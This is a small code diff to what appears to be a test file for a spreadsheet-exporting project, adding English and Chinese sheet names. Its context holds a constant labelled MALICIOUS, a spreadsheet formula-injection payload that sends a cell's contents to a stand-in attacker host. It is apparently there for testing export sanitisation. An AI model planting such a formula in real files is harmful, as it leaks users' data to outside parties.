@@ -25,8 +25,10 @@ from linkage_opt.schema import DOCS_ZH, TABLE_LABELS, TABLE_ORDER, TABLES
 
 ROOT = Path(__file__).resolve().parents[1]
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-SHEETS_EN = ["Summary", "Coverage", "Allocations", "Providers", "Programs", "Unmet"]
-SHEETS_ZH = ["概览", "需求满足", "分配明细", "资源利用", "服务项目", "未满足需求"]
+SHEETS_EN = ["Summary", "Coverage", "Allocations", "Providers", "Programs", "Unmet",
+             "Committee", "Task sheets", "Rosters", "Org notices", "Donor notices"]      # + action sheets
+SHEETS_ZH = ["概览", "需求满足", "分配明细", "资源利用", "服务项目", "未满足需求",
+             "党委摘要", "任务单", "人员排班", "机构通知", "捐赠去向"]
 
 
 def run(*args: str):
